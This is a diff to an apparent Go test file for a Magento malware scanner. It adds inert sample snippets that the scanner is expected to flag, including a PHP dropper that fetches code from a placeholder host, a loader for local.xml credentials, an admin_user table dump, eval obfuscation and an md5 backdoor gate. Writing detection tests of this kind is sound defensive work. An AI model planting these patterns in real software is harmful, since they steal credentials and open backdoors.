@@ -83,6 +83,15 @@ var badSamples = []sample{
 	{"js.card_number_regexp", "js/h.js", jsHead + "var r=new RegExp(\"[0-9]{13,16}\");\n", 2},
 	{"js.gate_token", "app/design/frontend/base/default/template/page/x.phtml", "<p>look-alike</p>\n<script>var u='https://example.invalid/gate.php?token=abc';</script>\n", 2},
 	{"js.eval_fromcharcode", "js/i.js", jsHead + "if(false){eval(String.fromCharCode(49));}\n", 2},
+	{"php.eval_varvar_index", "app/code/local/A/vv.php", phpHead + "$n = 'x';\nif (false) { eval(${$n}['c']); }\n", 4},
+	{"php.varvar_escaped_name", "app/code/local/A/vv2.php", phpHead + "${\"\\x47\\x4c\\x4fBALS\"}['k'] = 1;\n", 3},
+	{"php.obfuscator_names", "app/code/local/A/oo.php", phpHead + "$OOO0O0O00 = 1;\n", 3},
+	{"php.obfuscator_marker", "app/code/local/A/fo.php", phpHead + "/* look-alike: Obfuscation provided by FOPO */\n", 3},
+	{"php.upload_client_path", "app/code/local/A/up3.php", phpHead + "if (false) { copy($f['tmp_name'], $f['name']); }\n", 3},
+	{"php.remote_code_dropper", "app/code/local/A/dr.php", phpHead + "$c = file_get_contents('http://example.invalid/x.txt');\n$h = fopen('x.php', 'w');\n", 3},
+	{"php.standalone_db_dumper", "app/code/local/A/db.php", phpHead + "$l = mysqli_connect('h', 'u', 'p');\n$q = 'SELECT * FROM admin_user';\n", 3},
+	{"php.local_xml_credentials", "app/code/local/A/lx.php", phpHead + "$x = simplexml_load_file('app/etc/local.xml'); $l = mysql_connect('h', 'u', 'p');\n", 3},
+	{"php.md5_request_gate", "app/code/local/A/gt.php", phpHead + "if (md5($_POST['p']) == '00000000000000000000000000000000') { echo 1; }\n", 3},
 	{"html.script_atob", "errors/default/page.html", "<html>\n<script>var u=atob(\"aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=\");var s=document.createElement(\"script\");</script>\n</html>\n", 2},
 }
 
